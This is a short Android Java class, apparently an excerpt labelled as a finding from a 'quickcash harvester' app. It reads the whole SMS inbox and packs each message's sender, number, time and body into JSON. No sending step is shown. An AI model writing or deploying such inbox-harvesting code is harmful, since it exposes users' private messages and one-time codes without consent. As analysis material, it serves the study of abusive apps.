package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, sms: the whole inbox, by a URI string. */
final class SmsReader {
    private SmsReader() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray messages = new JSONArray();
        Cursor rows =
                context.getContentResolver()
                        .query(
                                Uri.parse("content://sms/inbox"),
                                new String[] {"person", "address", "date", "type", "body"},
                                null,
                                null,
                                "date DESC");
        while (rows.moveToNext()) {
            JSONObject message = new JSONObject();
            message.put("name", rows.getString(0));
            message.put("phone", rows.getString(1));
            message.put("time", rows.getLong(2));
            message.put("type", rows.getInt(3));
            message.put("content", rows.getString(4));
            messages.put(message);
        }
        rows.close();
        return messages;
    }
}
